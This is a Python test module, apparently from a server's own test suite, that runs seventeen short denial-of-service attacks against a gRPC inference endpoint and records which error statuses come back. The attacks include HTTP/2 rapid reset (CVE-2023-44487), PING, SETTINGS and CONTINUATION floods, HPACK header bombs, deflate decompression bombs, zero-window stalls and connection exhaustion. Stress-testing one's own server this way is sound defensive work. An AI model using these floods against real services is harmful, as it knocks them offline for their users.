"""Attacks on the gRPC side, each for about two seconds: ``python -m tests.attack.rpc NAME ADDRESSES``."""

from __future__ import annotations

import contextlib
import json
import resource
import socket
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable

import grpc
import hpack
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
from tritonclient.grpc import service_pb2 as pb

from tests.attack.harness import in_threads
from tests.serving.raw_http2 import INFER, STREAM, RawHttp2, framed

__all__ = ["ATTACKS", "LARGE", "unexpected"]

#: Shape of the inputs of the model ``large``: 60 MiB.
LARGE = (60, 512, 512)
SECONDS = 1.5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame().serialize()


def large_messages(address: str) -> Counter[str]:
    """30 whole messages of 60 MiB at once, each on a connection of its own."""
    request = pb.ModelInferRequest(model_name="large")
    request.inputs.add(name="x", datatype="FP32", shape=[1, *LARGE])
    request.raw_input_contents.append(bytes(60 << 20))
    body = request.SerializeToString()

    def send() -> str:
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(address, options=options) as channel:
            channel.unary_unary(INFER)(body, timeout=50)
        return "answered"

    return _at_once(30, send)


def declared_lengths(address: str) -> Counter[str]:
    """1,000 calls that say 60 MiB and send a byte."""
    return _held(address, 10, 100, framed(b"\x0a", 60 << 20))


def half_messages(address: str) -> Counter[str]:
    """64 calls that send 32 MiB each of 60, and wait."""

    def send() -> str:
        with RawHttp2(address) as client:
            number = client.call(INFER, framed(b"\x0a\x05large", 60 << 20), end=False)
            for _ in range(64):
                client.send(number, bytes(1 << 19))
                if number in client.statuses:
                    break
            return _words(client, number, SECONDS)

    return _at_once(64, send)


def idle_streams(address: str) -> Counter[str]:
    """2,000 streams without a message."""
    return _held(address, 20, 100, b"", STREAM)


def idle_connections(address: str) -> Counter[str]:
    """1,030 connections without a call."""
    host, port = address.split(":")
    with contextlib.ExitStack() as stack:
        for _ in range(1030):
            link = stack.enter_context(socket.create_connection((host, int(port)), timeout=10))
            link.sendall(PREFACE)
        time.sleep(SECONDS)
    return Counter({"opened": 1030})


def busy_connections(address: str) -> Counter[str]:
    """1,100 connections with a call that does not go on."""
    return _held(address, 1100, 1, framed(b"\x0a", 1000))


def no_windows(address: str) -> Counter[str]:
    """1,000 calls whose answers may not be sent."""
    request = pb.ModelMetadataRequest(name="large").SerializeToString()
    path = "/inference.GRPCInferenceService/ModelMetadata"
    return _held(address, 10, 100, framed(request), path, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, end=True)


def never_reading(address: str) -> Counter[str]:
    """Calls as fast as they go, on eight connections that read nothing."""
    head = hpack.Encoder().encode(_headers("/inference.GRPCInferenceService/ServerMetadata"))
    calls = b"".join(
        HeadersFrame(number, head, flags=["END_HEADERS"]).serialize()
        + DataFrame(number, framed(b""), flags=["END_STREAM"]).serialize()
        for number in range(1, 100_001, 2)
    )

    def send() -> str:
        with _connected(address) as link:
            link.settimeout(SECONDS)
            try:
                link.sendall(PREFACE + calls)
            except (TimeoutError, ConnectionError) as error:
                return type(error).__name__
            return "sent all"

    return _at_once(8, send)


def resets(address: str) -> Counter[str]:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    head = hpack.Encoder().encode(_headers(INFER))
    return _flood(address, b"".join(
        HeadersFrame(number, head, flags=["END_HEADERS"]).serialize() + RstStreamFrame(number).serialize()
        for number in range(1, 20_001, 2)
    ))  # fmt: skip


def pings(address: str) -> Counter[str]:
    """PING frames."""
    return _flood(address, PingFrame(opaque_data=bytes(8)).serialize() * 10_000)


def many_settings(address: str) -> Counter[str]:
    """SETTINGS frames with a setting that changes."""
    return _flood(address, b"".join(SettingsFrame(settings={4: size}).serialize() for size in range(10_000)))


def empty_frames(address: str) -> Counter[str]:
    """DATA frames without content."""
    head = HeadersFrame(1, hpack.Encoder().encode(_headers(INFER)), flags=["END_HEADERS"]).serialize()
    return _flood(address, head + DataFrame(1, b"").serialize() * 20_000)


def continuations(address: str) -> Counter[str]:
    """Headers that do not end."""
    head = HeadersFrame(1, hpack.Encoder().encode(_headers(INFER))).serialize()
    return _flood(address, head + ContinuationFrame(1, b"").serialize() * 20_000)


def header_bombs(address: str) -> Counter[str]:
    """One header of 4 KB that is repeated by an index of one byte."""
    encoder = hpack.Encoder()
    first = encoder.encode([*_headers(INFER), ("a", "b" * 4000)])
    return _flood(address, HeadersFrame(1, first + b"\xbe" * 15_000, flags=["END_HEADERS"]).serialize())


def bombs(address: str) -> Counter[str]:
    """60 KB that inflate to 60 MiB, in 16 calls at a time."""
    request = pb.ModelInferRequest(model_name="large", raw_input_contents=[bytes(60 << 20)])
    body = framed(zlib.compress(request.SerializeToString()), flag=1)

    def send() -> str:
        with RawHttp2(address) as client:
            return _words(client, client.call(INFER, body, headers={"grpc-encoding": "deflate"}), 50)

    return _at_once(16, send)


def costly_contents(address: str) -> Counter[str]:
    """A megabyte of floats that are not packed, in 64 calls."""
    tensor = pb.ModelInferRequest.InferInputTensor(name="x", datatype="FP32", shape=[1, *LARGE])
    contents = b"\x35\0\0\0\x3f" * 200_000
    inner = tensor.SerializeToString() + b"\x2a" + _varint(len(contents)) + contents
    head = pb.ModelInferRequest(model_name="large").SerializeToString()
    body = framed(head + b"\x2a" + _varint(len(inner)) + inner)

    def send() -> str:
        with RawHttp2(address) as client:
            return _words(client, client.call(INFER, body), 50)

    return _at_once(64, send)


def tiny_frames(address: str) -> Counter[str]:
    """A message in frames of a byte, on four connections."""
    head = HeadersFrame(1, hpack.Encoder().encode(_headers(INFER)), flags=["END_HEADERS"]).serialize()
    start = DataFrame(1, framed(b"", 60 << 20)).serialize()
    return _flood(address, head + start + DataFrame(1, b"\x0a").serialize() * 50_000, again=False)


ATTACKS: dict[str, Callable[[str], Counter[str]]] = {
    attack.__name__: attack
    for attack in (
        large_messages, declared_lengths, half_messages, idle_streams, idle_connections, busy_connections, no_windows,
        never_reading, resets, pings, many_settings, empty_frames, continuations, header_bombs, bombs, costly_contents,
        tiny_frames,
    )
}  # fmt: skip


#: How a connection or call may end for the attacker; codes are those of a request that is wrong, late or too much.
_ENDS = {"BrokenPipeError", "ConnectionAbortedError", "ConnectionResetError", "TimeoutError"}
_CODES = {
    grpc.StatusCode.OK, grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.DEADLINE_EXCEEDED, grpc.StatusCode.CANCELLED,
    grpc.StatusCode.RESOURCE_EXHAUSTED, grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.UNIMPLEMENTED,
}  # fmt: skip
_NUMBERS = {str(code.value[0]) for code in _CODES}
#: StreamClosedError is the attacker's own: the server ended the call while he sent.
_OTHERS = {"held", "flooded", "opened", "answered", "sent all", "no end", "StreamClosedError"}
_STATUSES = _ENDS | _OTHERS | {code.name for code in _CODES}


def unexpected(statuses: Iterable[str]) -> set[str]:
    """Those that no attack may get, such as INTERNAL."""
    return {
        status for status in statuses if status not in _STATUSES and status.split(" ")[0] not in {*_NUMBERS, "reset"}
    }


def _headers(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]  # fmt: skip


def _connected(address: str) -> socket.socket:
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), timeout=10)


def _varint(number: int) -> bytes:
    data = b""
    while number > 127:
        data, number = data + bytes([number & 127 | 128]), number >> 7
    return data + bytes([number])


def _words(client: RawHttp2, number: int, seconds: float) -> str:
    end = client.end_of(number, seconds)
    return "no end" if end is None else " ".join(end)[:60]


def _at_once(count: int, send: Callable[[], str]) -> Counter[str]:
    """Run in so many threads, and count the results."""
    statuses: Counter[str] = Counter()

    def run() -> None:
        try:
            statuses[send()] += 1
        except grpc.RpcError as error:
            statuses[error.code().name] += 1
        except Exception as error:
            statuses[type(error).__name__] += 1

    in_threads(run, count)
    return statuses


def _held(
    address: str,
    connections: int,
    calls: int,
    body: bytes,
    path: str = INFER,
    *,
    settings: dict[SettingCodes, int] | None = None,
    end: bool = False,
) -> Counter[str]:
    """Open connections with calls that wait, and hold them."""
    statuses: Counter[str] = Counter()
    with contextlib.ExitStack() as stack:
        clients = []
        for _ in range(connections):
            try:
                client = stack.enter_context(RawHttp2(address, settings=settings))
                for _ in range(calls):
                    client.call(path, body, end=end)
                clients.append(client)
            except OSError as error:
                statuses[type(error).__name__] += 1
        time.sleep(SECONDS)
        for client in clients:
            client.read(lambda: False, 0.001)
            statuses.update(" ".join(end)[:60] for end in client.statuses.values())
            statuses["held"] += calls - len(client.statuses)
    return statuses


def _flood(address: str, data: bytes, *, again: bool = True) -> Counter[str]:
    """Send frames on four connections for some seconds; connect again when the server ends one."""
    end = time.monotonic() + SECONDS

    def send() -> str:
        times = 0
        while time.monotonic() < end and (again or not times):
            times += 1
            with _connected(address) as link:
                link.settimeout(SECONDS)
                with contextlib.suppress(OSError):
                    link.sendall(PREFACE + data)
                    while link.recv(1 << 16):
                        pass
        return "flooded"

    return _at_once(4, send)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(ATTACKS[sys.argv[1]](json.loads(sys.argv[2])["grpc"])))  # noqa: T201 - the result
